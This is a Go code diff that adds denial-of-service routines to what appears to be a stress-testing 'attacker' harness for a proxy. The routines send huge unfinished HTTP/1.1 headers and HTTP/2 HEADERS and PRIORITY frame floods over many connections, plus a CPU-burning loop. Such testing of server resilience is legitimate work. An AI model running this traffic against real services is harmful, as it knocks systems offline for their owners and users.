@@ -4,10 +4,12 @@ import (
 	"bytes"
 	"context"
 	"crypto/rand"
+	"crypto/sha256"
 	"encoding/hex"
 	"fmt"
 	"io"
 	"net"
+	"strings"
 	"sync"
 	"time"
 
@@ -390,6 +392,54 @@ func slow(ctx context.Context, a *attacker) {
 	})
 }
 
+// unfinishedEach is how many connections begin a header for one of an attacker's.
+const unfinishedEach = 100
+
+// unfinished begins a large header of short lines, or of short fields, on many connections. On some it sends frames that
+// nothing follows from instead.
+func unfinished(ctx context.Context, a *attacker) {
+	const size = 1_000_000
+	lines := []byte("GET / HTTP/1.1\r\nHost: proxy\r\n" + strings.Repeat("a:b\r\n", size/len("a:b\r\n")))
+	var header, priority bytes.Buffer
+	header.WriteString(http2.ClientPreface)
+	framer := http2.NewFramer(&header, nil)
+	_ = framer.WriteSettings() // a buffer takes everything
+	var fields bytes.Buffer
+	for encoder := hpack.NewEncoder(&fields); fields.Len() < 16<<10; {
+		_ = encoder.WriteField(hpack.HeaderField{Name: "a", Value: "b"})
+	}
+	_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields.Bytes(), EndStream: true})
+	priority.WriteString(http2.ClientPreface)
+	framer = http2.NewFramer(&priority, nil)
+	for _ = framer.WriteSettings(); priority.Len() < size; {
+		_ = framer.WritePriority(1, http2.PriorityParam{Weight: 1})
+	}
+	begin := func(protocol string, content []byte) error {
+		conn, err := a.dial(ctx, protocol)
+		if err != nil {
+			return err
+		}
+		defer conn.Close() //nolint:errcheck // it is given up
+		a.requests.Add(1)
+		if _, err := conn.Write(content); err != nil {
+			a.closed.Add(1)
+			return nil
+		}
+		_, _ = io.Copy(io.Discard, conn)
+		a.closed.Add(1)
+		return nil
+	}
+	a.each(ctx, a.Connections*unfinishedEach, func(worker int) error {
+		switch {
+		case worker < a.Connections:
+			return begin("h2", priority.Bytes())
+		case worker%2 == 0:
+			return begin("h2", header.Bytes())
+		}
+		return begin("http/1.1", lines)
+	})
+}
+
 // sleep returns false when ctx ends before.
 func sleep(ctx context.Context, d time.Duration) bool {
 	select {
@@ -397,5 +447,12 @@ func sleep(ctx context.Context, d time.Duration) bool {
 		return false
 	case <-time.After(d):
 		return true
+	}
+}
+
+// compute keeps one processor busy and asks for nothing.
+func compute(ctx context.Context, _ *attacker) {
+	for sum := [sha256.Size]byte{}; ctx.Err() == nil; {
+		sum = sha256.Sum256(sum[:])
 	}
 }
